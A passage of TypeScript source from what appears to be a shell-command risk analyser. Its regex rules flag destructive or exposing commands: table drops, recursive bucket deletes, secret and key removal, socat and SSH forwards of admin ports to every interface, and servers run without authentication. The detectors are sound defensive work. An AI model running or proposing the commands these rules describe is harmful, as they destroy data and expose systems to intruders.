        const m = /^\s*(?:(?:\.shell|\.system|system|shell|platform\s+shell|host)\s+|(?:\\!|!)\s*)(\S.*)$/s.exec(line);
        if (!m) continue;
        const gdbLike = /^(?:gdb|cgdb|lldb)$/.test(name);
        const sqlite = /^(?:sqlite3?|duckdb|litecli)$/.test(name);
        const kw = /^\s*(\\!|!|[^\s!]+)/.exec(line)![1]!;
        if (
          (sqlite && /^\.(?:shell|system)$/.test(kw)) ||
          (!sqlite && !gdbLike && /^(?:\\!|system)$/.test(kw)) ||
          (gdbLike && /^(?:shell|!|platform)$/.test(kw)) ||
          (name === "sqlplus" && /^(?:host|!)$/.test(kw))
        )
          ctx.analyseShell(m[1]!);
      }
    }
    // SQL written by a query and fed to another client (`psql -Atc "SELECT format('DROP TABLE %I', t) …" | psql`): the generated statements run.
    if (
      ctx.producer &&
      /^(?:psql|mysql|mariadb|sqlite3?|duckdb|clickhouse-client|cockroach)$/.test(ctx.producer.name) &&
      !/^(?:gdb|cgdb|lldb)$/.test(name)
    ) {
      for (const a of ctx.producer.args)
        for (const m of a.text.matchAll(/'((?:[^']|'')*)'|"((?:[^"\\]|\\.)*)"/g)) {
          const lit = (m[1] ?? m[2] ?? "").replace(/''/g, "'").replace(/%[IsLl]|\{\}|\?/g, "x");
          if (/^\s*(?:DROP|TRUNCATE|DELETE|ALTER|UPDATE|GRANT|REVOKE)\b/i.test(lit))
            for (const key of judgeSql(/\bx\b|\S\s*;?\s*$/.test(lit.trim()) && !/\s$/.test(lit) ? lit : `${lit} x`))
              add(ctx, key);
        }
    }
  }
  // Graph and key-value shells: `MATCH (n) DETACH DELETE n` with no WHERE empties the graph.
  if (/^(?:cypher-shell|neo4j|memgraph|mgconsole)$/.test(name) || texts.some((t) => /\bMATCH\s*\(/i.test(t))) {
    const fed = ctx.producer ? producedLiteral(ctx.producer) : null;
    for (const t of [
      ...texts,
      ...ctx.redirects.filter((r) => r.body !== undefined).map((r) => r.body!),
      ...(fed ? [fed] : []),
    ]) {
      if (
        /\bMATCH\s*\(\s*\w*\s*(?::\s*\w+\s*)?\)\s*(?:-\[[^\]]*\]->?\s*\(\s*\w*\s*\)\s*)?(?:DETACH\s+)?DELETE\b/i.test(
          t,
        ) &&
        !/\bWHERE\b|\{\s*\w+\s*:/i.test(t)
      )
        add(ctx, "sql_delete_without_where");
      if (
        /\b(?:DROP\s+(?:DATABASE|GRAPH|INDEX|CONSTRAINT)|apoc\.schema\.assert\s*\(\s*\{\s*\}\s*,\s*\{\s*\})/i.test(t) &&
        name !== "grep"
      )
        add(ctx, "sql_drop");
    }
  }
  // Erlang -eval: file:delete / file:del_dir_r, os:cmd, mnesia table deletes (directly or through rpc:call).
  if (name === "erl" || name === "escript" || name === "iex" || name === "elixir" || name === "mix") {
    const code = [
      ...optValues(["-eval", "-e", "--eval"], ["--eval"]),
      ...(name === "mix" && words[0] === "run" ? optValues(["-e", "--eval"], []) : []),
    ].join("\n");
    if (code) {
      for (const m of code.matchAll(/\bfile:(delete|del_dir|del_dir_r|write_file|rename)\s*\(\s*"([^"]*)"/g)) {
        if (m[1] === "write_file") judgeOverwrite(ctx, m[2]!);
        else if (m[1] === "rename") judgeMove(ctx, [m[2]!], undefined);
        else judgeDelete(ctx, m[2]!, m[1] === "del_dir_r");
      }
      for (const m of code.matchAll(/\bos:cmd\s*\(\s*"((?:[^"\\]|\\.)*)"/g)) ctx.analyseShell(m[1]!);
      if (/\bos:cmd\s*\(\s*[^"\s]/.test(code)) add(ctx, "inline_code_unanalysable");
      if (
        /\bmnesia\s*[:,]\s*(?:delete_table|delete_schema)\b|\bmnesia\s*,\s*(?:delete_table|delete_schema)\b/.test(code)
      )
        add(ctx, "sql_drop");
      if (/\bmnesia\s*[:,]\s*clear_table\b/.test(code)) add(ctx, "sql_delete_without_where");
      for (const key of ormEffects(code)) add(ctx, key);
    }
  }
  // Laravel tinker / artisan: PHP run in the application.
  if (name === "php" && texts.includes("artisan") && texts.includes("tinker")) {
    for (const v of optValues([], ["--execute"])) analyseInlineCode("php", v, ctx);
  }
  // Maven exec:exec / exec:java with -Dexec.executable and -Dexec.args: that command runs.
  if (
    /^(?:mvn|mvnw|\.\/mvnw)$/.test(name) &&
    texts.some((t) => /^(?:exec:exec|org\.codehaus\.mojo:exec-maven-plugin(?::[\w.-]+)?:exec)$/.test(t))
  ) {
    const exe = texts.find((t) => t.startsWith("-Dexec.executable="))?.slice(18);
    const a = texts.find((t) => t.startsWith("-Dexec.args="))?.slice(12) ?? "";
    if (exe) ctx.analyseShell(`${quoteWord(exe)} ${a}`);
  }
  // Task runners given a file written on the line: its steps are what runs.
  if (name === "just" || name === "task" || name === "go-task") {
    const file = optValues(["-f", "-t"], ["--justfile", "--taskfile"])[0];
    const names = file
      ? [file]
      : name === "just"
        ? ["Justfile", "justfile", ".justfile"]
        : ["Taskfile.yml", "Taskfile.yaml", "taskfile.yml", "Taskfile.dist.yml"];
    for (const f of names) {
      const text =
        writtenScript(ctx, f) ??
        (ctx.root && !f.startsWith("/") ? writtenScript(ctx, posix.join(ctx.root, f)) : undefined);
      if (text === undefined) continue;
      if (text === null) add(ctx, "shell_input");
      else ctx.analyseShell(name === "just" ? justRecipes(text) : taskfileCommands(text));
      break;
    }
  }
  if (/^(?:gradle|gradlew|\.\/gradlew)$/.test(name)) {
    for (const f of ["build.gradle.kts", "build.gradle"]) {
      const text = writtenScript(ctx, f) ?? (ctx.root ? writtenScript(ctx, posix.join(ctx.root, f)) : undefined);
      if (text === undefined) continue;
      if (text === null) add(ctx, "shell_input");
      else gradleCommands(ctx, text);
      break;
    }
  }
  // Compilers given source written on the line (a here-document, here-string, stdin or a file the line wrote): the binary's
  // effects are the source's; when that source calls anything with effects, what the binary does is not readable here.
  if (
    /^(?:gcc|cc|clang|g\+\+|c\+\+|clang\+\+|tcc|rustc|go|zig|nim|ghc|fpc|gfortran|swiftc|javac|kotlinc|crystal|dmd|ldc2|nvcc)$/.test(
      name,
    ) &&
    (name !== "go" || words[0] === "build")
  ) {
    const here = ctx.redirects.find((r) => r.body !== undefined);
    let source: string | null | undefined = here
      ? here.literal
        ? here.body!
        : null
      : ctx.producer
        ? producedLiteral(ctx.producer)
        : undefined;
    const files = operands(args, "oIlLDUxWf", [
      "--output",
      "--target",
      "--edition",
      "--crate-name",
      "--crate-type",
      "--emit",
      "--cfg",
      "-C",
    ])
      .map((o) => o.text)
      .filter((t) => /\.(?:c|cc|cpp|cxx|rs|go|zig|nim|hs|pas|f90|swift|java|kt|cr|d|cu|m)$/.test(t));
    for (const f of files) {
      const w = writtenScript(ctx, f) ?? (ctx.root ? writtenScript(ctx, posix.join(ctx.root, f)) : undefined);
      if (w !== undefined) source = w === null || source === null ? null : `${source ?? ""}\n${w}`;
    }
    if (source === undefined) return;
    const o = optValues(["-o"], ["--output"])[0] ?? texts.find((t) => /^-o./.test(t))?.slice(2);
    const out =
      o ??
      (name === "rustc" || name === "go" || name === "nim" || name === "crystal"
        ? files[0]?.replace(/\.\w+$/, "")
        : "a.out");
    if (!out) return;
    noteScript(ctx, out.includes("/") ? out : `./${out}`, false, source === null ? null : nativeAsShell(source));
  }
}

const ANY_ADDRESS = /^(?:0\.0\.0\.0\/0|::\/0|0\.0\.0\.0|\*|any|all|Internet|0\/0)$/i;
/** Tools judged elsewhere for teardown verbs (their own rules know which deletes are local or narrow). */
const OWN_TEARDOWN_RULES =
  /^(?:kubectl|oc|k|kind|k3d|minikube|docker|podman|nerdctl|git|helm|vagrant|multipass|lxc|incus|virsh|npm|pnpm|yarn|pip\d*|cargo|gem|brew|apt|apt-get|dnf|yum|snap|flatpak|conda|mamba|micromamba|poetry|uv|tmux|screen|systemctl|terraform|tofu|terragrunt|pulumi|cdk|cdktf|sam|copilot|amplify|azd|juju|sst|serverless|sls|eksctl|aws|gcloud|gsutil|az|rclone|mc|zfs|zpool|lvm|lvremove|git-lfs|dvc|rustup|nvm|pyenv|asdf|mise|sdk|go|dotnet|ollama|huggingface-cli|wp|composer|bundle|rake|make|cmake|just|task|gradle|mvn|ansible|ansible-playbook|salt|puppet|chef-apply|redis-cli|influx|mongosh|psql|mysql|sqlite3|echo|printf|man|grep|rg|sed|awk|cat|ls|find|fd|xargs|parallel|timeout|nohup|nice|env|command|type|sudo|busybox|toybox|gh|glab|hub|jira|trash|gio|rm|rmdir|unlink|tar|zip|unzip|kill|pkill|crontab|at|atrm|journalctl|ufw|iptables|nft|firewall-cmd|ip|nmcli|docker-compose|compose|skaffold|tilt|garden|devspace|okteto|ctlptl|aliyun|azcopy|ceph|cinder|colima|consul|crictl|ctr|dmsetup|doctl|dropdb|dropuser|etcdctl|exo|fly|flyctl|glance|gluster|hcloud|heat|heroku|ibmcloud|kafka-delete-records|kafka-topics|keydb-cli|limactl|linode-cli|mysqladmin|netlify|neutron|nova|oci|openstack|pct|qm|rabbitmqadmin|rabbitmqctl|s3cmd|scw|tccli|tea|terramate|upctl|valkey-cli|varnishadm|vault|vercel|vultr-cli|argocd|flux)$/;

/** More teardown, exposure and system changes judged by effect for tools of any name. */
function judgeMoreEffects(ctx: JudgeContext, name: string, start: number): void {
  const args = ctx.args;
  const texts = args.map((a) => a.text);
  const low = texts.map((t) => t.toLowerCase());
  const words = sub(args);
  const has = (...xs: string[]) => xs.some((x) => low.includes(x) || low.some((a) => a.startsWith(x + "=")));
  const valueOf = (...opts: string[]): string | undefined => {
    for (let k = 0; k < texts.length; k++)
      for (const o of opts) {
        if (texts[k] === o) return texts[k + 1];
        if (texts[k]!.startsWith(o + "=")) return texts[k]!.slice(o.length + 1);
      }
    return undefined;
  };
  if (
    texts.some(
      (t, k) =>
        /^(?:--help|--dry-run|--dryrun|--noop|--what-if|--plan)$/.test(t) ||
        (t === "-h" && (texts.length === 1 || k === texts.length - 1) && name !== "dockerd"),
    )
  )
    return;
  const verbs = words.slice(0, 4);
  // Inline code that sets the system clock or allocates without bound.
  const lang = interpreterLanguage(name);
  if (lang && lang !== "awk") {
    const code = args.find((a, k) => k > 0 && /^-[A-Za-z]*[ceE]$|^--eval$/.test(texts[k - 1]!))?.text;
    if (
      code !== undefined &&
      /\b(?:clock_settime|settimeofday|stime|SetSystemTime|clock_adjtime|adjtimex)\s*\(/.test(code)
    )
      add(ctx, "kernel_change");
    if (code !== undefined && memoryBomb(code)) add(ctx, "resource_exhaustion");
  }
  // Teardown verbs of any CLI not judged by its own rules: destroying an environment, deleting or removing clusters,
  // apps, indices, secrets, keys, buckets, databases, projects or stacks; stopping a job with -purge.
  if (
    ctx.out.length === start &&
    !OWN_TEARDOWN_RULES.test(name) &&
    !name.includes("/") &&
    !/^\.|\.(?:sh|py|js)$/.test(name)
  ) {
    if (verbs.some((w) => /^(?:destroy|teardown|tear-down|nuke|decommission)$/.test(w))) add(ctx, "infra_teardown");
    else if (
      verbs.some((w) =>
        /^(?:delete|remove|rm|del|terminate|purge|drop)$|^(?:delete|terminate|purge|destroy)-|-(?:deletion|delete|destroy|terminate|purge)$/.test(
          w,
        ),
      ) &&
      verbs.some(
        (w) =>
          /^(?:clusters?|kubernetes|k8s|apps?|applications?|indices|indexes|index|secrets?|ssh-keys?|gpg-keys?|keys?|buckets?|databases?|dbs?|projects?|stacks?|environments?|envs?|namespaces?|services?|deployments?|volumes?|instances?|servers?|droplets?|machines?|vms?|functions?|zones?|domains?|certificates?|tokens?|vaults?|repos?|repositories?|topics?|queues?|collections?|tables?|schemas?|releases?)$/.test(
            w,
          ) || /-(?:deletion|delete|destroy|terminate|purge)$|^(?:delete|terminate|purge|destroy)-/.test(w),
      )
    )
      add(ctx, "infra_teardown");
    else if (verbs.includes("stop") && has("-purge", "--purge")) add(ctx, "cluster_teardown");
    else if (
      /^(?:kapp|kapp-controller|helmfile|argocd|flux|waypoint|porter|garden)$/.test(name) &&
      verbs.some((w) => /^(?:delete|destroy|uninstall|remove)$/.test(w))
    )
      add(ctx, "cluster_teardown");
  }
  // Key and secret stores emptied: `gh ssh-key delete`, `pass rm -r`, `docker secret rm $(docker secret ls -q)`.
  if (
    (name === "gh" || name === "glab") &&
    /^(?:ssh-key|gpg-key|secret|variable|auth)$/.test(words[0] ?? "") &&
    /^(?:delete|remove|rm|logout)$/.test(words[1] ?? "")
  )
    add(ctx, "credential_write");
  if ((name === "pass" || name === "gopass") && /^(?:rm|remove|delete)$/.test(words[0] ?? ""))
    add(ctx, "credential_write");
  if (
    /^(?:docker|podman)$/.test(name) &&
    /^(?:secret|config)$/.test(words[0] ?? "") &&
    /^(?:rm|remove)$/.test(words[1] ?? "") &&
    args.some((a) => /\$\(|`/.test(a.text) || !a.literal)
  )
    add(ctx, "credential_write");
  // Object stores: recursive or wildcard deletes whatever options come first (`aws --endpoint-url X s3 rm …`, `s5cmd rm 's3://b/*'`).
  if (name === "aws") {
    const k = texts.findIndex((t) => t === "s3");
    if (k >= 0 && texts[k + 1] === "rm" && has("--recursive")) add(ctx, "cloud_storage_delete");
    if (k >= 0 && texts[k + 1] === "rb" && has("--force")) add(ctx, "cloud_storage_delete");
  }
  if (
    /^(?:s5cmd|s3cmd|gsutil|mc|rclone|azcopy|b2|wrangler|s4cmd|obsutil|ossutil|coscli)$/.test(name) &&
    verbs.some((w) => /^(?:rm|del|delete|remove|purge|rb|rmdir)$/.test(w)) &&
    args.some((a) => /^[\w-]+:\/\/\S*\*|^[\w-]+:\/\/[^/]+\/?$/.test(a.text))
  )
    add(ctx, "cloud_storage_delete");
  // CDN and cache invalidations of everything (`--paths '/*'`).
  if (
    verbs.some((w) => /invalidat|purge|flush|ban/.test(w)) &&
    texts.some((t) => /^(?:\/\*|\*|\/)$/.test(t) || /^--(?:paths?|pattern)=(?:\/\*|\*)$/.test(t))
  )
    add(ctx, "cache_flush");
  // Mounts by helpers.
  if (
    name === "systemd-mount" ||
    name === "systemd-umount" ||
    (name === "udisksctl" && /^(?:mount|unmount|loop-setup|loop-delete|power-off)$/.test(words[0] ?? ""))
  )
    add(ctx, "mount_change");
  // Firewall and security-group rules opened to every address.
  if (
    texts.some(
      (t) =>
        (ANY_ADDRESS.test(t.replace(/^--[\w-]+=/, "")) && /\//.test(t)) ||
        /(?:^|[=,\s])(?:0\.0\.0\.0\/0|::\/0)(?:$|[,\s])/.test(t),
    ) &&
    verbs.some((w) =>
      /^(?:authorize|create|add|update|allow|set|open|insert|append)\b|^(?:authorize|add|create|update)-|-(?:ingress|rules?|rule)$|firewall|security/.test(
        w,
      ),
    )
  )
    add(ctx, "firewall_change");
  // Whole-system configuration switched at once.
  if (
    (/^(?:nixos-rebuild|darwin-rebuild)$/.test(name) && /^(?:switch|boot|test)$/.test(words[0] ?? "")) ||
    (name === "guix" && words[0] === "system" && /^(?:reconfigure|init)$/.test(words[1] ?? "")) ||
    (name === "home-manager" && words[0] === "switch")
  )
    add(ctx, "boot_config");
  // The system clock set.
  if (
    (name === "chronyc" && /^(?:makestep|settime|burst)$/.test(words[0] ?? "")) ||
    (name === "ntpdate" && !has("-q", "-d")) ||
    (name === "sntp" && has("-s", "-S")) ||
    (name === "timedatectl" && /^(?:set-time|set-ntp)$/.test(words[0] ?? "")) ||
    (name === "hwclock" && has("--set", "--systohc", "--hctosys", "-w", "-s")) ||
    (name === "htpdate" && has("-s", "-x")) ||
    (name === "rdate" && !has("-p"))
  )
    add(ctx, "kernel_change");
  // Exposure: repositories made public, buckets opened to anonymous access, wildcard policies with sudo.
  if (
    (name === "gh" || name === "glab") &&
    words[0] === "repo" &&
    words[1] === "edit" &&
    /^public$/i.test(valueOf("--visibility") ?? "")
  )
    add(ctx, "privilege_grant");
  if (name === "oci" && words.includes("bucket") && /^Object/i.test(valueOf("--public-access-type") ?? ""))
    add(ctx, "privilege_grant");
  if (
    name === "mc" &&
    ((words[0] === "anonymous" && words[1] === "set" && /^(?:download|upload|public)$/.test(words[2] ?? "")) ||
      (words[0] === "policy" && words[1] === "set" && /^(?:download|upload|public)$/.test(words[2] ?? "")))
  )
    add(ctx, "privilege_grant");
  if (name === "vault" && words[0] === "policy" && words[1] === "write") {
    const body = [
      ...texts,
      ...ctx.redirects.filter((r) => r.body !== undefined).map((r) => r.body!),
      ...(ctx.producer ? [producedLiteral(ctx.producer) ?? ""] : []),
    ].join("\n");
    if (
      /path\s+"(?:\*|[^"]*\/\*|sys\/\*?)"[^}]*\b(?:sudo|root)\b/s.test(body) ||
      /path\s+"\*"\s*\{[^}]*(?:create|update|delete)/s.test(body)
    )
      add(ctx, "privilege_grant");
  }
  // In-place edits of structured files (`yq -i`, `xmlstarlet ed -L`, `crudini --set`, `dasel put -f`): a write of the file.
  const inplace =
    (name === "yq" && has("-i", "--inplace")) ||
    (name === "xmlstarlet" && /^(?:ed|edit)$/.test(words[0] ?? "") && has("-l", "--inplace")) ||
    (name === "crudini" && has("--set", "--del", "--merge")) ||
    (name === "dasel" && /^(?:put|delete)$/.test(words[0] ?? "")) ||
    (name === "json" && texts.includes("-I")) ||
    (name === "tomlq" && has("-i", "--in-place")) ||
    (name === "jaq" && has("-i", "--in-place"));
  if (inplace) {
    const ops =
      name === "xmlstarlet"
        ? texts
            .slice(texts.findIndex((t) => t === "ed" || t === "edit") + 1)
            .filter((t, k, xs) => !t.startsWith("-") && !/^-[a-z]$|^--/i.test(xs[k - 1] ?? ""))
        : operands(args, "f", ["--file", "--expression", "--front-matter"]);
    const files = (ops as (string | JudgedArg)[])
      .map((o) => (typeof o === "string" ? o : o.text))
      .filter((t) => (/[./~]/.test(t) && !/^[.[]|^\/\//.test(t)) || /^(?:~|\/|\.\.?\/|\$HOME)/.test(t));
    const file = name === "crudini" ? files[0] : name === "dasel" ? valueOf("-f", "--file") : files[files.length - 1];
    if (file) judgeOverwrite(ctx, file);
  }
  // fd … -x CMD / -X CMD: CMD runs on the paths found under fd's roots.
  if (name === "fd" || name === "fdfind") {
    const x = texts.findIndex((t) => t === "-x" || t === "--exec" || t === "-X" || t === "--exec-batch");
    if (x >= 0) {
      const before = texts.slice(0, x);
      const pos: string[] = [];
      for (let k = 0; k < before.length; k++) {
        if (
          /^-(?:[tedEScjo]|-type|-extension|-exclude|-max-depth|-min-depth|-size|-changed-within|-changed-before|-owner|-threads|-search-path|-base-directory)$/.test(
            before[k]!,
          )
        )
          k++;
        else if (!before[k]!.startsWith("-")) pos.push(before[k]!);
      }
      const roots = [...pos.slice(1), ...before.flatMap((t, k) => (t === "--search-path" ? [before[k + 1]!] : []))];
      const cmd = texts.slice(x + 1);
      const end = cmd.indexOf(";");
      const words2 = (end >= 0 ? cmd.slice(0, end) : cmd).map((w) => w.replace(/\{[\/.]*\}/g, "_item_"));
      for (const root of roots.length ? roots : ["."]) {
        const item = `${root.replace(/\/+$/, "")}/_item_`;
        const line = words2.some((w) => w.includes("_item_"))
          ? words2.map((w) => w.replace(/_item_/g, item))
          : [...words2, item];
        runWords(ctx, line);
      }
    }
  }
  // Servers on every interface serving a system path, or the container runtime's API, or a notebook with no token.
  const bind = valueOf("-p", "--addr", "--ip", "--bind", "--host", "--listen", "-H", "--address", "-l") ?? "";
  const everywhere =
    bind === "" ||
    /^(?::\d+|0\.0\.0\.0(?::\d+)?|\*(?::\d+)?|\[::\](?::\d+)?|::|tcp:\/\/(?:0\.0\.0\.0|\[::\]|:)(?::\d+)?|\d+)$/.test(
      bind,
    );
  if (
    name === "dockerd" &&
    texts.some(
      (t, k) =>
        (texts[k - 1] === "-H" || texts[k - 1] === "--host" || /^--host=/.test(t)) &&
        /^tcp:\/\/(?:0\.0\.0\.0|\[::\]|:|)(?::\d+)?$/.test(t.replace(/^--host=/, "")),
    ) &&
    !has("--tlsverify")
  )
    add(ctx, "remote_access");
  if ((name === "busybox" || name === "httpd") && (texts.includes("httpd") || name === "httpd") && everywhere) {
    const home = valueOf("-h");
    if (home !== undefined) {
      const w = whereIn(ctx, home);
      if (
        w === "system" ||
        w === "credential" ||
        w === "home" ||
        posix.normalize(home) === "/" ||
        (w === "outside" && SYSTEM_TOP.test(home))
      )
        add(ctx, "remote_access");
    }
  }
  if (name === "rclone" && words[0] === "serve") {
    const served = words[2];
    const a = valueOf("--addr") ?? "";
    if (
      served !== undefined &&
      !/^(?:localhost|127\.|\[::1\])/.test(a) &&
      !has("--user", "--htpasswd", "--auth-proxy")
    ) {
      const w = whereIn(ctx, served);
      if (
        posix.normalize(served) === "/" ||
        w === "system" ||
        w === "credential" ||
        w === "home" ||
        (w === "outside" && SYSTEM_TOP.test(served))
      )
        add(ctx, "remote_access");
    }
  }
  judgeExposure(ctx, name, texts, words);
  if (
    /^(?:jupyter|jupyter-lab|jupyter-notebook|jupyterlab)$/.test(name) &&
    texts.some((t) => /^--(?:ServerApp|NotebookApp|IdentityProvider)\.token=(?:''|""|)$/.test(t)) &&
    /^(?:0\.0\.0\.0|\*|::)$/.test(valueOf("--ip") ?? "")
  )
    add(ctx, "remote_access");
}

// ---------------------------------------------------------------------------------------------
// Exposure: services opened to every network, authentication switched off, VPNs joined, system defaults switched

/** Loopback addresses: a port published or forwarded on them stays on this machine. */
const LOOPBACK = /^(?:localhost|127(?:\.\d+){3}|\[?::1\]?)$/i;
/** Ports of administration, remote-shell and database services: relayed from every interface, the network reaches them. */
const ADMIN_PORT =
  /^(?:22|23|2375|2376|2379|3306|3389|5432|5900|5901|5984|6379|6443|8200|9200|9300|10250|11211|15672|27017|28017|1433|1521|5672|9042|7474|8086)$/;
/** Container environment settings that switch a database's or service's authentication off. */
const AUTH_OFF_ENV =
  /^(?:POSTGRES_HOST_AUTH_METHOD=trust|MYSQL_ALLOW_EMPTY_PASSWORD=(?:yes|true|1)|MARIADB_ALLOW_EMPTY_ROOT_PASSWORD=(?:yes|true|1)|ALLOW_EMPTY_PASSWORD=(?:yes|true|1)|xpack\.security\.enabled=false|GF_AUTH_ANONYMOUS_ENABLED=true|GF_AUTH_DISABLE_LOGIN_FORM=true|JUPYTER_TOKEN=|DISABLE_SECURITY_PLUGIN=true|plugins\.security\.disabled=true|NEO4J_AUTH=none)$/i;
/** Servers started with their protection switched off (flags joined with their values), by program. */
const SERVER_OPENERS: { tool: RegExp; open: RegExp; unless?: RegExp }[] = [
  { tool: /^(?:redis-server|valkey-server|keydb-server)$/, open: /(?:^|\s)--protected-mode\s+no\b/ },
  {
    tool: /^mongod$/,
    open: /(?:^|\s)(?:--bind_ip_all|--bind_ip[=\s]0\.0\.0\.0)(?:\s|$)/,
    unless: /(?:^|\s)--auth\b|--keyFile/,
  },
  { tool: /^(?:mysqld|mariadbd|mysqld_safe)$/, open: /(?:^|\s)--skip-grant-tables\b/ },
  { tool: /^memcached$/, open: /(?:^|\s)(?:-l\s*|--listen[=\s])0\.0\.0\.0\b/ },
  { tool: /^code-server$/, open: /(?:^|\s)--auth[=\s]none\b/, unless: /--bind-addr[=\s](?:127\.|localhost)/ },
  { tool: /^x11vnc$/, open: /(?:^|\s)-nopw\b/, unless: /(?:^|\s)-localhost\b/ },
  { tool: /^(?:elasticsearch|opensearch)$/, open: /xpack\.security\.enabled=false|plugins\.security\.disabled=true/ },
];

function judgeExposure(ctx: JudgeContext, name: string, texts: string[], words: string[]): void {
  const joined = texts.join(" ");
  for (const s of SERVER_OPENERS)
    if (s.tool.test(name) && s.open.test(joined) && !(s.unless?.test(joined) ?? false))
      return add(ctx, "remote_access");
  // A container whose authentication is switched off, published on every interface (`-p 5432:5432`, `-p 0.0.0.0:…`).
  if (
    /^(?:docker|podman|nerdctl)$/.test(name) &&
    (words[0] === "run" ||
      words[0] === "create" ||
      (words[0] === "container" && /^(?:run|create)$/.test(words[1] ?? "")))
  ) {
    const env = texts
      .filter((t, k) => /^(?:-e|--env)$/.test(texts[k - 1] ?? "") || /^--env=/.test(t))
      .map((t) => t.replace(/^--env=/, ""));
    const published = texts
      .filter((t, k) => /^(?:-p|--publish)$/.test(texts[k - 1] ?? "") || /^--publish=|^-p\d/.test(t))
      .map((t) => t.replace(/^--publish=|^-p/, ""));
    const everywhere =
      published.some((p) => {
        const f = p.split(":");
        return f.length < 3 || !LOOPBACK.test(f.slice(0, -2).join(":"));
      }) ||
      texts.includes("-P") ||
      texts.includes("--publish-all") ||
      /(?:^|\s)--net(?:work)?[=\s]host\b/.test(joined);
    if (everywhere && env.some((e) => AUTH_OFF_ENV.test(e))) return add(ctx, "remote_access");
  }
  // A cluster service given a public load balancer (`kubectl patch svc X -p '{"spec":{"type":"LoadBalancer"}}'`, `expose --type=LoadBalancer`).
  if (
    /^(?:kubectl|oc|k)$/.test(name) &&
    /^(?:patch|expose|set|create)$/.test(words[0] ?? "") &&
    (/"type"\s*:\s*"LoadBalancer"|type:\s*LoadBalancer/.test(joined) ||
      /(?:^|\s)--type[=\s]LoadBalancer\b/.test(joined))
  )
    return add(ctx, "remote_access");
  // ssh dynamic or local forwards bound to every interface (`-D 0.0.0.0:1080`, `-L *:8080:…`, `-g`, GatewayPorts).
  if (name === "ssh" || name === "autossh") {
    const fwd = texts.flatMap((t, k) =>
      /^-[A-Za-z]*[DL]$/.test(t) && texts[k + 1] !== undefined
        ? [texts[k + 1]!]
        : /^-[DL]./.test(t)
          ? [t.slice(2)]
          : [],
    );
    const gateway =
      texts.some((t) => /^-[A-Za-z]*g[A-Za-z]*$/.test(t) && !/^-[A-Za-z]*[bcDEeFIiJLlmOopQRSWw]$/.test(t)) ||
      /GatewayPorts[=\s]+(?:yes|clientspecified)/i.test(joined);
    if (fwd.some((f) => /^(?:0\.0\.0\.0|\*|::|\[::\]|):\d/.test(f)) || (gateway && fwd.length))
      return add(ctx, "remote_access");
  }
  // socat relaying a listener on every interface to a local administration or database port (`TCP-LISTEN:2222,fork TCP:127.0.0.1:22`).
  if (name === "socat") {
    const listen = texts.find((t) => /^TCP[46]?-LISTEN:/i.test(t));
    const target = texts.find((t) =>
      /^(?:TCP[46]?|TCP-CONNECT):(?:127(?:\.\d+){3}|localhost|\[?::1\]?|0\.0\.0\.0):\d+/i.test(t),
    );
    const port = target ? /:(\d+)(?:,|$)/.exec(target)?.[1] : undefined;
    if (listen && !/,(?:bind|range)=(?:127\.|localhost|\[?::1)/i.test(listen) && port && ADMIN_PORT.test(port))
      return add(ctx, "remote_access");
  }
  // VPNs and mesh networks joined, exit nodes and routes advertised, services funnelled to the internet.
  if (
    name === "openvpn" &&
    texts.some((t) => /^--(?:config|remote|client)$/.test(t) || /\.ovpn$/.test(t)) &&
    !texts.some((t) => /^--(?:genkey|show-\S+|version|help)$/.test(t))
  )
    return add(ctx, "network_change");
  if (
    (name === "wg-quick" && /^(?:up|down)$/.test(words[0] ?? "")) ||
    (name === "wg" && /^(?:set|setconf|syncconf|addconf)$/.test(words[0] ?? ""))
  )
    return add(ctx, "network_change");
  if (
    name === "tailscale" &&
    ((/^(?:up|login|set)$/.test(words[0] ?? "") &&
      texts.some((t) => /^--(?:advertise-exit-node|advertise-routes|exit-node|ssh)(?:=|$)/.test(t))) ||
      (/^(?:funnel|serve)$/.test(words[0] ?? "") && !/^(?:status|reset|off)$/.test(words[1] ?? "")))
  )
    return add(ctx, "remote_access");
  if ((name === "zerotier-cli" && words[0] === "join") || (name === "netbird" && words[0] === "up"))
    return add(ctx, "remote_access");
  // System-wide defaults switched (`update-alternatives --set java …`, `alternatives --config python`): every user's command changes.
  if (
    /^(?:update-alternatives|alternatives)$/.test(name) &&
    texts.some((t) => /^--(?:set|install|remove|remove-all|config|auto|all|set-selections)$/.test(t))
  )
    return add(ctx, "system_config_write");
  // Rules opened to every source address spelled `*`/`Internet`/`Any` (`--source-address-prefixes '*'`).
  if (
    texts.some(
      (t, k) =>
        /^--?(?:source|src|remote|cidr|from|allowed|ip-?ranges?|source-address|source-address-prefix(?:es)?|source-ranges?|remote-ip|cidr-?blocks?)(?:[\w-]*)$/i.test(
          texts[k - 1] ?? "",
        ) && /^(?:\*|any|internet|0\.0\.0\.0(?:\/0)?|::\/0)$/i.test(t),
    ) &&
    words.some((w) =>
      /^(?:create|add|update|set|allow|authorize|open|insert|append)$|^(?:authorize|add|create|update)-|rule|firewall|nsg|security/.test(
        w,
      ),
    )
  )
    return add(ctx, "firewall_change");
}

// ---------------------------------------------------------------------------------------------
// Privileged and remote commands whose effect is not read

/** Whether the rule below is on (measured on every table before it was kept; see git log). */
const ELEVATED_RULE = true;

/**
 * Programs a privileged or remote invocation may run without being asked about, as data: read-only programs (they
 * print), and programs whose effects this analyser reads (their rules above flag what they change; nothing flagged
 * means nothing of concern). Anything else run with sudo/doas/pkexec/su -c, or on another host, is asked about.
 */
const ELEVATED_EXEMPT: Record<string, readonly string[]> = {
  // printing files, listings, searches
  files: [
    "cat",
    "tac",
    "less",
    "more",
    "head",
    "tail",
    "ls",
    "ll",
    "dir",
    "tree",
    "stat",
    "file",
    "wc",
    "du",
    "df",
    "find",
    "fd",
    "locate",
    "realpath",
    "readlink",
    "basename",
    "dirname",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "sha512sum",
    "b2sum",
    "cksum",
    "diff",
    "cmp",
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "ag",
    "zcat",
    "zgrep",
    "zless",
    "xzcat",
    "bzcat",
    "strings",
    "hexdump",
    "xxd",
    "od",
    "jq",
    "column",
    "sort",
    "uniq",
    "cut",
    "tr",
    "nl",
    "fold",
    "fmt",
    "paste",
    "join",
    "comm",
    "test",
    "[",
    "true",
    "false",
    "echo",
    "printf",
    "sleep",
    "wait",
    "pwd",
    "cd",
  ],
  // the system's state, printed
  system: [
    "whoami",
    "id",
    "groups",
    "hostname",
    "hostnamectl",
    "uname",
    "uptime",
    "date",
    "free",
    "vmstat",
    "iostat",
    "mpstat",
    "sar",
    "nproc",
    "lscpu",
    "lspci",
    "lsusb",
    "lsblk",
    "blkid",
    "lsmod",
